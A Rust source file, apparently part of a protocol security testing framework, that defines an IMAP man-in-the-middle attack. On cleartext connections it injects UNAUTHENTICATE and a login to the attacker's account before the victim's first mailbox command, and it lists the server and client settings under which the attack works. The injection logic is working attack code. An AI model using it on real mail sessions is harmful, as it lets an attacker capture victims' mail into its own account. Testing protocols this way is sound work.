//! Resets a session in the clear and logs in to its own account in the middle of it.

use super::kit::login;
use super::{Attack, Deciding, Group, tamper};
use crate::base::{ATTACKER, Protocol, Side};
use crate::harm::success;
use crate::trace::Verb;

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["server.starttls=off", "server.logindisabled=off", "server.unauthenticate=on"],
        right: &[],
        wrong: &["client.tls=opportunistic"],
    },
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["server.starttls=off", "server.logindisabled=off", "server.unauthenticate=on"],
        right: &[],
        wrong: &["client.forgets-policy=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "unauth-injection",
    title: "Change the user underneath",
    about: "Adds UNAUTHENTICATE and a login to its own account in front of the victim's first command about a mailbox, on a connection without TLS.",
    group: Group::Reuse,
    known: &[],
    protocols: &[Protocol::Imap],
    switches: &[],
    build: |_, dialect| {
        let mut injected = false;
        tamper(move |message, moves| {
            let works = message.from == Side::Client
                && (dialect.command)(message.octets).is_some_and(|asked| asked.verb == Verb::Mailbox);
            if works && !std::mem::replace(&mut injected, true) {
                let (user, password) = ATTACKER;
                let login = login(dialect.protocol, "q2", user, password).concat();
                moves.add([&b"q1 UNAUTHENTICATE\r\n"[..], &login].concat());
            }
            moves.pass();
        })
    },
    success: &success::WORKS_FOR_ATTACKER,
    deciding: DECIDING,
};
